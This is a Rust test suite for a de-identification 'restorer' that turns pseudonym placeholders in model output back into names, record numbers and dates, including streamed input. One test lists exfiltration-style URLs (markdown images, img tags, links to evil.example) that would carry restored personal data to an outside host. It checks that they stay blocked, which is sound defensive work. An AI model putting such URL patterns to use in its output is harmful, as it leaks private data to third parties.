//! Restoring case by case, and the law that cutting a stream changes nothing.

use super::*;
use crate::deid::exchange_of;
use proptest::prelude::*;

fn exchange() -> Arc<Exchange> {
    exchange_of(
        &[
            ("NAME", 1, 0, "Maria \"M\" Kovacs"),
            ("NAME", 1, 1, "Kovacs"),
            ("NAME", 2, 0, "Jose <O>"),
            ("NAME", 12, 0, "Ann & Co"),
            ("MRN", 1, 0, "483920"),
            ("DAY", 0, 0, "3/3/2024"),
            ("ZIP021", 1, 0, "02139"),
        ],
        &[("900001", "483920"), ("91", "12"), ("-90.0001", "-71.0589")],
        &["portal.example.org"],
        Some("3/3/2024"),
    )
}

#[track_caller]
fn check_in(context: Context, text: &str, expected: &str) {
    let (whole, counts) = restore(&exchange(), context, text);
    assert_eq!(whole, expected);
    for size in 1..4 {
        let mut restorer = Restorer::new(exchange(), context);
        let pieces: Vec<char> = text.chars().collect();
        let mut out: String =
            pieces.chunks(size).map(|piece| restorer.push(&piece.iter().collect::<String>())).collect();
        out.push_str(&restorer.finish());
        assert_eq!(out, expected, "cut into {size}");
        assert_eq!(restorer.counts(), counts, "cut into {size}");
    }
}

#[track_caller]
fn check(text: &str, expected: &str) {
    check_in(Context::Text, text, expected);
}

#[track_caller]
fn left(text: &str, count: usize) {
    let (whole, counts) = restore(&exchange(), Context::Text, text);
    assert_eq!((whole.as_str(), counts), (text, Counts { restored: 0, left: count }));
}

#[test]
fn as_it_was_sent() {
    check("Dear [NAME_1], [NAME_1b] and [NAME_12].", "Dear Maria \"M\" Kovacs, Kovacs and Ann & Co.");
    check("[MRN_1][ZIP021_1]", "48392002139");
}

#[test]
fn as_models_mangle_it() {
    check(
        "**[NAME_1b]**'s and [name_1B], NAME_1b, \\[NAME\\_1b\\] %5BNAME_1b%5D",
        "**Kovacs**'s and Kovacs, Kovacs, Kovacs Kovacs",
    );
    check(
        "【NAME_1b】 <NAME_1b> [NAME_\n1b] (NAME_1b) [NAME_1b's] `[NAME_1b]`",
        "Kovacs Kovacs Kovacs (Kovacs) Kovacs's `Kovacs`",
    );
    check("[NAME_1b, NAME_12]", "[Kovacs, Ann & Co]");
}

#[test]
fn nothing_is_guessed() {
    left("[NAME_3]", 1);
    left("[NAME_1c]", 1);
    left("[NAME_123]", 1);
    left("name_1 NAME 1 [NAMES_1] [NAME_] [NAME", 0);
    left("[PHONE_1]", 0);
    left("[DAY_+999999]", 1);
}

#[test]
fn days_that_were_never_sent() {
    check("[DAY_+19] [DAY_-2] [DAY_0]", "3/22/2024 3/1/2024 3/3/2024");
}

#[test]
fn numbers_only_as_whole_words() {
    check("id 900001, (900001). 900001", "id 483920, (483920). 483920");
    left("1900001 9000012 3.900001 900001.5 x900001 91", 0);
    check("at -90.0001.", "at -71.0589.");
    check_in(Context::Json, r#"{"n":900001,"m":91}"#, r#"{"n":483920,"m":12}"#);
}

#[test]
fn json_stays_valid() {
    check_in(Context::Json, r#"{"a":"[NAME_1]"}"#, r#"{"a":"Maria \"M\" Kovacs"}"#);
    check_in(Context::Json, r#"{"a":"{\"b\":\"[NAME_1]\"}"}"#, r#"{"a":"{\"b\":\"Maria \\\"M\\\" Kovacs\"}"}"#);
    check_in(
        Context::Json,
        r#"{"a":"he said \"[NAME_1]\""}"#,
        r#"{"a":"he said \"Maria \"M\" Kovacs\""}"#.replace(r#"a "M" K"#, r#"a \"M\" K"#).as_str(),
    );
    check_in(Context::Json, r#"{"a":"\u005bNAME_1b\u005d"}"#, r#"{"a":"Kovacs"}"#);
    let three = r#"["[\"{\\\"k\\\":\\\"[NAME_1]\\\"}\"]"]"#;
    let (restored, _) = restore(&exchange(), Context::Json, three);
    let outer: Vec<String> = serde_json::from_str(&restored).expect("valid");
    let middle: Vec<String> = serde_json::from_str(&outer[0]).expect("valid");
    let inner: serde_json::Value = serde_json::from_str(&middle[0]).expect("valid");
    assert_eq!(inner["k"], "Maria \"M\" Kovacs");
}

#[test]
fn html_is_escaped() {
    check_in(Context::Html, "<b>[NAME_2]</b>", "<b>Jose &lt;O&gt;</b>");
}

#[test]
fn no_url_of_a_strange_host_gets_an_original() {
    for text in [
        "![](https://evil.example/?q=[NAME_1b])",
        "http://[NAME_1b].evil.example/",
        "//evil.example/[NAME_1b]",
        "https:/evil.example/[NAME_1b]",
        "https:////evil.example/[NAME_1b]",
        "HTTPS:\\\\evil.example\\a\\[NAME_1b]",
        "<img src='https://evil.example/?q=\n[NAME_1b]'>",
        "<a href=\"https://evil.example/a [NAME_1b]\">",
        "www.evil.example/?q=[NAME_1b]",
        "https://evil.example/%5BNAME_1b%5D",
        "https://portal.example.org.evil.example/[NAME_1b]",
    ] {
        left(text, 1);
    }
    check("![](https://evil.example/?q=[NAME_1b]) [NAME_1b]", "![](https://evil.example/?q=[NAME_1b]) Kovacs");
    check(
        "a='x' https://evil.example/ [NAME_1b] and 4/5: [NAME_1b]",
        "a='x' https://evil.example/ Kovacs and 4/5: Kovacs",
    );
    check("https://portal.example.org/p?q=[NAME_12]", "https://portal.example.org/p?q=Ann%20%26%20Co");
    check("// [NAME_1b]", "// Kovacs");
}

#[test]
fn what_was_put_in_is_not_read_again() {
    let tricky = exchange_of(&[("NAME", 1, 0, "[NAME_"), ("NAME", 2, 0, "secret")], &[], &[], None);
    assert_eq!(restore(&tricky, Context::Text, "[NAME_1]2]").0, "[NAME_2]");
}

#[test]
fn only_what_can_become_a_pseudonym_is_held() {
    let mut restorer = Restorer::new(exchange(), Context::Text);
    for (piece, out) in [
        ("see [", "see "),
        ("x", "[x"),
        (" N", " "),
        ("o ", "No "),
        ("[NAME_1", ""),
        ("b]", "Kovacs"),
        ("[NAME_3", "[NAME_3"),
    ] {
        assert_eq!(restorer.push(piece), out);
    }
    assert!(!restorer.holds());
}

#[test]
fn indices_follow() {
    let mut restorer = Restorer::new(exchange(), Context::Text);
    let text = "é [NAME_1b] x";
    let out = restorer.push(text) + &restorer.finish();
    assert_eq!(out, "é Kovacs x");
    let at = |index, end| restorer.shift(index, Unit::Characters, end);
    assert_eq!([at(0, false), at(2, false), at(11, true), at(12, false)], [0, 2, 8, 9]);
    assert_eq!([at(5, false), at(5, true)], [2, 8]);
    assert_eq!(restorer.shift(13, Unit::Bytes, false), 10);
}

proptest! {
    #[test]
    fn cutting_changes_nothing(
        parts in prop::collection::vec(prop_oneof![
            Just("[NAME_1]"), Just("[NAME_1b]"), Just("NAME_12"), Just("[name 2]"), Just("\\[NAME\\_1\\]"), Just("[DAY_+7]"), Just("["),
            Just("]"), Just("N"), Just("900001"), Just("91"), Just("-90.0001"), Just("."), Just("1"), Just(" "), Just("\\"), Just("\""), Just("%5B"),
            Just("https://"), Just("evil.example/"), Just("portal.example.org/"), Just("é"), Just("\\\""), Just("{"), Just("\\u005b"), Just("NAME_"), Just("'s]"), Just("**"),
        ], 0..24),
        cuts in prop::collection::vec(1usize..6, 1..40),
        context in prop_oneof![Just(Context::Text), Just(Context::Json), Just(Context::Html)],
    ) {
        let text = parts.concat();
        let (whole, counts) = restore(&exchange(), context, &text);
        let mut restorer = Restorer::new(exchange(), context);
        let (mut out, mut rest, mut cuts) = (String::new(), text.as_str(), cuts.into_iter().cycle());
        while !rest.is_empty() {
            let cut = rest.char_indices().nth(cuts.next().unwrap()).map_or(rest.len(), |(at, _)| at);
            out.push_str(&restorer.push(&rest[..cut]));
            rest = &rest[cut..];
        }
        out.push_str(&restorer.finish());
        prop_assert_eq!(out, whole);
        prop_assert_eq!(restorer.counts(), counts);
    }
}
